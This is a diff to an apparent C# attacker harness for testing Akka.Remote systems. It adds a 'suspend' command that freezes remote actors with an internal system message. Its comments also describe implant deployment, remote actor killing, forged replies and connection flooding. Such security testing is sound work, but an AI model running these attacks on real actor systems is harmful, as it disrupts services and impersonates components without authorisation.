@@ -12,6 +12,7 @@ using Akka.Remote;
 //                             choosing, then asks it to write MARKER; prints "deployed ADDRESS" for each implant that
 //                             registered back, then "outcome ran" if MARKER exists, else "outcome did not run".
 //   poison ADDRESS PATH...    sends PoisonPill and Kill to each actor PATH at ADDRESS, by reference and by selection.
+//   suspend ADDRESS PATH...   sends the system message Suspend to each actor PATH at ADDRESS (it would freeze it).
 //   forge PROXY WORKER VALUE  sends the actor PROXY answers to calls 1-16, all VALUE, claiming to be the actor WORKER.
 //   flood PORT BIG IDLE       opens BIG connections that announce a 136 MiB frame and send 64 KiB of it, and IDLE that
 //                             send nothing; prints "holding" and keeps them open until stdin ends.
@@ -21,6 +22,7 @@ return args switch
 {
     ["deploy", var marker, .. var addresses] when addresses.Length > 0 => await Deploy(marker, addresses),
     ["poison", var address, .. var paths] when paths.Length > 0 => await Poison(address, paths),
+    ["suspend", var address, .. var paths] when paths.Length > 0 => await Suspend(address, paths),
     ["forge", var proxy, var worker, var value] => await Forge(proxy, worker, int.Parse(value, CultureInfo.InvariantCulture)),
     ["flood", var port, var big, var idle] => Flood(int.Parse(port, CultureInfo.InvariantCulture), int.Parse(big, CultureInfo.InvariantCulture), int.Parse(idle, CultureInfo.InvariantCulture)),
     ["garbage", var port] => Garbage(int.Parse(port, CultureInfo.InvariantCulture)),
@@ -77,6 +79,21 @@ static async Task<int> Poison(string address, string[] paths)
     }
 
     await Task.Delay(TimeSpan.FromSeconds(3)); // long enough for the association and the messages to go
+    Console.WriteLine("sent");
+    await system.Terminate();
+    return 0;
+}
+
+static async Task<int> Suspend(string address, string[] paths)
+{
+    using var system = ActorSystem.Create("attacker", SystemConfig(address));
+    foreach (var path in paths)
+    {
+        var target = (Akka.Actor.IInternalActorRef)((ExtendedActorSystem)system).Provider.ResolveActorRef(ActorPath.Parse(address + path));
+        target.SendSystemMessage(new Akka.Dispatch.SysMsg.Suspend());
+    }
+
+    await Task.Delay(TimeSpan.FromSeconds(3));
     Console.WriteLine("sent");
     await system.Terminate();
     return 0;
